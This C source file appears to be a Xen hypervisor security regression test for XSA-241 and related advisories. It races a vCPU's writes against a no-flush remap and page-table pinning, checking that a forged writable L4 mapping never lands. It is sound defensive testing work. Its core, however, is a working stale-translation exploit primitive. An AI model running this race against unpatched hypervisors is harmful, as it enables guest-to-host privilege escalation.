/* @vcpus 2
 * XSA-241: a page's type was given up before stale translations were gone. XSA-401: a race when a type is taken. XSA-286, XSA-292: INVLPG-like flushes.
 * XSA-345: mappings changed while they are used. vCPU 1 writes to a page without end; vCPU 0 takes its mapping away without flushing and makes the
 * page a page table: from then on no write may arrive. */
#include "guest.h"

static u8 window[PAGE_SIZE] page_aligned;
static u8 second_stack[16384] __attribute__((aligned(16)));
static volatile u64 writes, stop, value = 0x10;
static u64 *victim;

static void second_main(void)
{
    while (!stop) {
        asm volatile(MAY_FAULT("movq %0, (%1)")::"r"(value), "r"(window) : "memory");
        writes++;
    }
    hypercall_vcpu_op(VCPUOP_down, 1, NULL);
    for (;;)
        hypercall_sched_op(SCHEDOP_yield, NULL);
}

static void start_second(void)
{
    static struct vcpu_guest_context context;

    context.flags = VGCF_in_kernel;
    context.user_regs.rip = (u64)second_main;
    context.user_regs.rsp = (u64)second_stack + sizeof(second_stack) - 8;
    context.user_regs.cs = FLAT_KERNEL_CS;
    context.user_regs.ss = FLAT_KERNEL_SS;
    context.kernel_ss = FLAT_KERNEL_SS;
    context.kernel_sp = (u64)second_stack + sizeof(second_stack);
    context.ctrlreg[3] = xen_pfn_to_cr3(virt_to_mfn((void *)start_info->pt_base));
    for (int vector = 0; vector < 32; vector++)
        context.trap_ctxt[vector] = (struct trap_info){.vector = vector, .cs = FLAT_KERNEL_CS, .address = (u64)vector_entry_points[vector]};
    context.failsafe_callback_eip = (u64)entry_failsafe;
    check_equal(hypercall_vcpu_op(VCPUOP_initialise, 1, &context), 0, "initialise vCPU 1");
    check_equal(hypercall_vcpu_op(VCPUOP_up, 1, NULL), 0, "vCPU 1 up");
}

static void wait_for_writes(void)
{
    u64 before = writes, deadline = clock_now() + 5 * SECONDS;

    while (writes < before + 10 && clock_now() < deadline)
        clock_sleep(20 * MICROSECONDS);
}

PROGRAM(xsa_241_stale_translation)
{
    unsigned long mfn;
    u64 *pte = pte_of((unsigned long)window, 1), bad = 0;

    victim = page_alloc();
    mfn = virt_to_mfn(victim);
    check_equal(map_frame(victim, mfn, PTE_READ_ONLY), 0, "read-only in the initial mapping");
    check_equal(map_frame(window, mfn, PTE_DATA), 0, "writable in the window");
    start_second();
    for (int round = 0; round < 20; round++) {
        value = 0x10; /* not present: harmless as an entry */
        wait_for_writes();
        pte_write(&pte[0], make_pte(mfn, PTE_READ_ONLY)); /* no flush asked for */
        check(mmuext(MMUEXT_PIN_L1_TABLE, mfn, 0) == 0, "round %d: pin it as a page table", round);
        value = make_pte(virt_to_mfn((void *)start_info->pt_base), PTE_DATA); /* writable mapping of the L4 */
        for (int i = 0; i < 50; i++) {
            clock_sleep(20 * MICROSECONDS);
            bad += *(volatile u64 *)victim & PTE_P;
        }
        check(mmuext(MMUEXT_UNPIN_TABLE, mfn, 0) == 0, "round %d: unpin it", round);
        value = 0x10;
        wait_for_writes();
        pte_write(&pte[0], make_pte(mfn, PTE_DATA));
    }
    stop = 1;
    check_equal(bad, 0, "XSA-241: no write got into a page table");
    check(writes > 100, "vCPU 1 tried %lu times", writes);
}
